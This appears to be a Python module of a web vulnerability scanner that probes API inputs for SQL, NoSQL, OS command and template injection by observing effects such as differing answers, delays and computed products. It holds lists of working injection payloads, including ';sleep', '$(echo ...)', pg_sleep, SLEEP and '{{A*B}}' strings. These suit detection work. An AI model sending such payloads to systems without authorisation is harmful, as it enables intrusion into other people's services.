"""Injection with proof by effect: what was sent is not shown back, it was carried out.

SQL: a condition that is true and one that is false are answered differently, twice, with other words each time, and a
condition that is none like neither. Templates and commands: a product of two numbers that was never sent. Time: it
takes as long as it was told, twice, and no longer where it is told nothing.
"""

from __future__ import annotations

import random
import re
import secrets
from collections.abc import Iterable, Iterator
from dataclasses import dataclass

from harness.probes.api.inputs import MARK
from harness.probes.api.request import Hole, succeeded
from harness.probes.api.sites import TextPlace, answer_of
from harness.probes.api.world import World
from harness.probes.exchange import Exchange

SLEEP_S = 1.5
_AND = (
    "{v}' AND '{a}'='{b}",
    "{v}' AND '{a}'='{b}' -- ",
    "{v}') AND ('{a}'='{b}",
    "{v}%' AND '{a}'='{b}' AND '%'='",
    "{v}%') AND ('{a}'='{b}' AND '%'='",
    '{v}" AND "{a}"="{b}',
    "{v} AND '{a}'='{b}'",
    "{v}) AND ('{a}'='{b}'",
)
_OR = (
    "{v}' OR '{a}'='{b}",
    "{v}' OR '{a}'='{b}' -- ",
    "{v}') OR ('{a}'='{b}",
    "{v}%' OR '{a}'='{b}' -- ",
    '{v}" OR "{a}"="{b}',
)
_ORDERED = "CASE WHEN '{a}'='{b}' THEN {v} ELSE NULL END"
_SQL_ERROR = re.compile(
    r"SQL syntax|sqlite3?\.\w*Error|SQLITE_ERROR|near \"[^\"]{0,80}\": syntax error|unrecognized token|"
    r"unterminated quoted string|syntax error at or near|ORA-\d{5}|SQLSTATE|psycopg2?\.|PG::SyntaxError|"
    r"Unclosed quotation mark|mysql_fetch|MySqlException|SequelizeDatabaseError|You have an error in your SQL",
    re.IGNORECASE,
)
_SLOW_SQL = (
    "@V' AND (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT @N) SELECT COUNT(*) FROM c)>0 -- ",
    "@V AND (WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT @N) SELECT COUNT(*) FROM c)>0",
    "@V' OR 1=(SELECT 1 FROM pg_sleep(@S)) -- ",
    "@V OR 1=(SELECT 1 FROM pg_sleep(@S))",
    "@V' OR SLEEP(@S) -- ",
)
"""What takes time in a query: @V is the value, @S how many seconds, @N how many rows."""
_ROWS_A_SECOND = 6_000_000
"""As many rows as SQLite counts in a second or more."""
_SLOW_COMMANDS = (
    "@V;sleep @S;#",
    "@V$(sleep @S)",
    "@V|sleep @S;#",
    "@V';sleep @S;'",
    '@V";sleep @S;"',
    "__import__('time').sleep(@S)",
)
_ECHOES = (
    "@V;echo hx$((@A*@B))xh;#",
    "@V$(echo hx$((@A*@B))xh)",
    "@V|echo hx$((@A*@B))xh;#",
    "@V\necho hx$((@A*@B))xh\n",
    "@V';echo hx$((@A*@B))xh;'",
    '@V";echo hx$((@A*@B))xh;"',
    "'hx'+str(@A*@B)+'xh'",
    "'hx'+(@A*@B)+'xh'",
)
"""What prints a product of @A and @B that is not in it."""
_TEMPLATES = ("hx{{@A*@B}}xh", "hx${@A*@B}xh", "hx<%= @A*@B %>xh", "hx#{@A*@B}xh", "hx{@A*@B}xh")


@dataclass(frozen=True, slots=True)
class _Pair:
    """Two words that are equal, and one that is another."""

    same: str
    other: str


def _pairs() -> tuple[_Pair, _Pair]:
    first, second, third = random.SystemRandom().sample("bcdfghjkmnpqrtvw", 3)
    return _Pair(first, second), _Pair(third, first)


def sql_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text becomes a part of a query."""
    for site in places:
        hole = (
            _by_condition(world, site) or _by_order(world, site) or _by_quotes(world, site) or _by_operator(world, site)
        )
        if hole is None:
            hole = _by_time(world, site, _SLOW_SQL, "SQL")
        if hole is not None:
            yield hole


def _by_condition(world: World, site: TextPlace) -> Hole | None:
    base = answer_of(world, site, site.value)
    if base is None or base != answer_of(world, site, site.value):
        return None
    if 200 <= base[0] < 300 and not site.is_login:
        for template in _AND:
            if (hole := _told_apart(world, site, template, site.text, true_is=base)) is not None:
                return hole
    if site.operation.method != "GET" and not site.is_login:
        return None
    unknown = f"{MARK}{secrets.token_hex(4)}" if isinstance(site.value, str) else "987654321"
    nothing = answer_of(world, site, unknown)
    if nothing is None or nothing[0] >= 500:
        return None
    ors = _OR if isinstance(site.value, str) else (*_OR, "{v} OR '{a}'='{b}'")
    for template in ors:
        if (hole := _told_apart(world, site, template, unknown, false_is=nothing)) is not None:
            return hole
    return None


def _told_apart(
    world: World,
    site: TextPlace,
    template: str,
    value: str,
    true_is: tuple[int, str] | None = None,
    false_is: tuple[int, str] | None = None,
) -> Hole | None:
    """Does the service answer a true condition otherwise than a false one: both times, and only conditions?"""
    pair, again = _pairs()
    true = answer_of(world, site, template.format(v=value, a=pair.same, b=pair.same))
    if true is None or true[0] >= 400 or (true_is is not None and _items(true) != _items(true_is)):
        return None
    false = answer_of(world, site, template.format(v=value, a=pair.same, b=pair.other))
    if false is None or false == true or (false_is is not None and _items(false) != _items(false_is)):
        return None
    if false[0] >= 500:
        return None
    second = answer_of(world, site, template.format(v=value, a=again.same, b=again.same))
    denied = answer_of(world, site, template.format(v=value, a=again.same, b=again.other))
    if second != true or denied != false:
        return None
    for word in (" AND ", " OR "):
        nonsense = template.replace(word, f" {MARK.upper()} ")
        if nonsense != template:
            broken = answer_of(world, site, nonsense.format(v=value, a=pair.same, b=pair.same))
            if broken == true:
                return None
    sent = template.format(v=value, a=pair.same, b=pair.same)
    proof = world.client.send(site.account, site.put(sent))
    denial = template.format(v=value, a=pair.same, b=pair.other)
    says = (
        f"puts {site.place.told} into a query (SQL): {sent!r} is answered {true[0]} as a true condition, {denial!r}"
        " as a false one"
    )
    return site.hole(says, proof)


def _items(answer: tuple[int, str]) -> tuple[int, str]:
    return answer[0], answer[1].replace("§", "")


def _by_order(world: World, site: TextPlace) -> Hole | None:
    """A name of a column that is part of the query: an order by a condition."""
    if site.operation.method != "GET" or not re.search(r"sort|order|by|col|field", site.place.name, re.IGNORECASE):
        return None
    for column in dict.fromkeys((site.text, "id", "name", "title", "price")):
        if not re.fullmatch(r"\w+", column):
            continue
        base = answer_of(world, site, column)
        if base is None or base[0] >= 300:
            continue
        for template in (
            _ORDERED,
            "CASE WHEN '{a}'='{b}' THEN {v} ELSE -{v} END",
            "(SELECT CASE WHEN '{a}'='{b}' THEN {v} ELSE 1/(1-1) END)",
        ):
            if (hole := _told_apart_order(world, site, template, column)) is not None:
                return hole
    return None


def _told_apart_order(world: World, site: TextPlace, template: str, column: str) -> Hole | None:
    pair, again = _pairs()

    def of(one: str, other: str) -> tuple[int, str] | None:
        return answer_of(world, site, template.format(v=column, a=one, b=other))

    true, false = of(pair.same, pair.same), of(pair.same, pair.other)
    if true is None or false is None or true == false or true[0] >= 300 or false[0] >= 300:
        return None
    if of(again.same, again.same) != true or of(again.same, again.other) != false:
        return None
    sent = template.format(v=column, a=pair.same, b=pair.other)
    proof = world.client.send(site.account, site.put(sent))
    says = f"puts {site.place.told} into a query (SQL): the order of the answer follows the condition in {sent!r}"
    return site.hole(says, proof)


def _by_quotes(world: World, site: TextPlace) -> Hole | None:
    """One quote breaks what two do not."""
    for mark in ("'", '"'):
        seen = [world.client.tried(site.account, site.put(f"{site.text}{mark * count}")) for count in (1, 2, 3, 4)]
        if any(each is None for each in seen):
            continue
        one, two, three, four = (each for each in seen if each is not None)
        if any(_SQL_ERROR.search(each.text) for each in (two, four)):
            continue
        if _SQL_ERROR.search(one.text) and _SQL_ERROR.search(three.text):
            found = _SQL_ERROR.search(one.text)
            words = found[0] if found is not None else ""
            return site.hole(
                f"puts {site.place.told} into a query (SQL): a quote in it is answered with {words!r}", one
            )
        if one.status >= 500 and three.status >= 500 and two.status < 500 and four.status < 500:
            says = (
                f"puts {site.place.told} into a query: an odd number of quotes in it is answered with {one.status},"
                f" an even one with {two.status}"
            )
            return site.hole(says, one)
    return None


def _by_operator(world: World, site: TextPlace) -> Hole | None:
    """An object where a text is due, which the database takes for a condition (NoSQL)."""
    if not isinstance(site.value, str) or site.place.where not in ("body", "query"):
        return None
    word = f"{MARK}{secrets.token_hex(4)}"

    def of(operator: str) -> tuple[int, str] | None:
        if site.place.where == "body":
            return answer_of(world, site, {operator: word})
        name = f"{site.place.way[0]}[{operator}]"
        plain = site.draft.query
        draft = site.draft.__class__(
            operation=site.draft.operation,
            path=site.draft.path,
            query={**{key: each for key, each in plain.items() if key != site.place.way[0]}, name: word},
            headers=site.draft.headers,
        )
        seen = world.client.tried(site.account, draft)
        return None if seen is None else (seen.status, re.sub(r"\w{24,}|" + word, "§", seen.text))

    nothing = answer_of(world, site, word)
    unlike, like = of("$ne"), of("$eq")
    if nothing is None or unlike is None or like is None or unlike[0] >= 300:
        return None
    if _items(like) != _items(nothing) or unlike == like or of(f"${MARK}") == unlike or of("$ne") != unlike:
        return None
    sent = {"$ne": word}
    proof = world.client.send(site.account, site.put(sent))
    return site.hole(
        f"takes an operator of the database for {site.place.told}: {sent} matches what {word!r} does not", proof
    )


def _by_time(world: World, site: TextPlace, templates: Iterable[str], what: str) -> Hole | None:
    """Does an answer take as long as the value says, twice, and none where the value says nothing?"""
    base = world.client.tried(site.account, site.draft)
    if base is None or base.elapsed_s > SLEEP_S / 3:
        return None

    def seconds(template: str, wait: float) -> float:
        seen = world.client.tried(site.account, site.put(_waiting(template, site.text, wait)))
        return seen.elapsed_s if seen is not None else 0.0

    for template in templates:
        first = seconds(template, SLEEP_S)
        if first < SLEEP_S * 0.8:
            continue
        still, longer = seconds(template, 0), seconds(template, SLEEP_S * 2)
        if still < SLEEP_S / 3 and longer > first * 1.5 and seconds(template, 0) < SLEEP_S / 3:
            text = _waiting(template, site.text, SLEEP_S)
            proof = world.client.send(site.account, site.put(text))
            says = (
                f"carries out {what} in {site.place.told}: {text!r} takes {first:.1f} s, with twice the wait"
                f" {longer:.1f} s, without one {still:.1f} s"
            )
            return site.hole(says, proof)
    return None


def _waiting(template: str, value: str, seconds: float) -> str:
    rows = str(int(seconds * _ROWS_A_SECOND) or 1)
    return template.replace("@V", value).replace("@S", f"{seconds:g}").replace("@N", rows)


def command_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text is run by a shell, or as a program."""
    for site in places:
        hole = _by_product(world, site, _ECHOES, "carries out a command in")
        hole = hole or _by_time(world, site, _SLOW_COMMANDS, "a command")
        if hole is not None:
            yield hole


def template_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text is rendered as a template: in the answer, or wherever it is read later."""
    stored: dict[str, tuple[TextPlace, str]] = {}
    for site in places:
        if not isinstance(site.value, str):
            continue
        hole = _by_product(world, site, _TEMPLATES, "renders as a template")
        if hole is not None:
            yield hole
        elif site.operation.method != "GET" and not site.is_login:
            for template in _TEMPLATES:
                text, result = _product(template, site.text)
                if succeeded(world.client.tried(site.account, site.put(text))):
                    stored[result] = site, text
    yield from _shown_later(world, stored)


def _shown_later(world: World, stored: dict[str, tuple[TextPlace, str]]) -> Iterator[Hole]:
    told: set[str] = set()
    for described in world.reads() if stored else ():
        for account in world.accounts:
            draft = world.drafts.get((described.name, account.name))
            seen = world.client.tried(account, draft) if draft is not None else None
            for result, (site, text) in stored.items():
                if seen is not None and result in seen.text and str(site.place) + site.operation.name not in told:
                    told.add(str(site.place) + site.operation.name)
                    says = (
                        f"renders {site.place.told} as a template: {text!r} was kept, and {described.name} shows"
                        f" {result!r}"
                    )
                    yield site.hole(says, seen)


def _product(template: str, value: str) -> tuple[str, str]:
    """A text to send, and what stands in the answer if it is carried out."""
    one, other = random.SystemRandom().randint(1100, 9900), random.SystemRandom().randint(1100, 9900)
    text = template.replace("@V", value).replace("@A", str(one)).replace("@B", str(other))
    return text, f"hx{one * other}xh"


def _by_product(world: World, site: TextPlace, templates_: Iterable[str], says: str) -> Hole | None:
    """Is a product in the answer that was never sent, twice?"""
    for template in templates_:
        proofs: list[Exchange] = []
        for _ in range(2):
            text, result = _product(template, site.text)
            seen = world.client.tried(site.account, site.put(text))
            if seen is None or result not in seen.text:
                break
            proofs.append(seen)
        else:
            return site.hole(f"{says} {site.place.told}: {text!r} is answered with {result!r}", proofs[-1])
    return None
